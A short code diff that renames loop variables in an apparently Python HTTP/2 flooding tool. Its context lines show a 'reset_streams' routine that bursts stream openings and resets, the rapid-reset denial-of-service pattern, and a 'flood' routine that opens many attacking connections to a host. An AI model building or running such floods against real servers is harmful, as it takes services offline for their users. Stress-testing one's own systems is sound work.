@@ -104,7 +104,7 @@ async def reset_streams(connection: AttackConnection) -> None:
     ids = http2.stream_ids()
 
     def burst() -> bytes:
-        return b"".join(http2.call(one) + http2.reset(one) for one in [next(ids) for _ in range(BURST_SIZE)])
+        return b"".join(http2.call(stream) + http2.reset(stream) for stream in [next(ids) for _ in range(BURST_SIZE)])
 
     await connection.send(http2.PREFACE + http2.SETTINGS)
     await connection.send_repeatedly(burst, BURST_INTERVAL_S, MAX_BURSTS)
@@ -153,7 +153,7 @@ BEHAVIOURS: tuple[tuple[Behaviour, int], ...] = (
 
 async def flood(host: str, port: int, connections: int, seconds: float, seed: int) -> Counter[str]:
     rng = random.Random(seed)
-    behaviours = rng.choices([one for one, _ in BEHAVIOURS], [weight for _, weight in BEHAVIOURS], k=connections)
+    behaviours = rng.choices([kind for kind, _ in BEHAVIOURS], [weight for _, weight in BEHAVIOURS], k=connections)
     outcomes: Counter[str] = Counter()
     deadline = asyncio.get_running_loop().time() + seconds
 
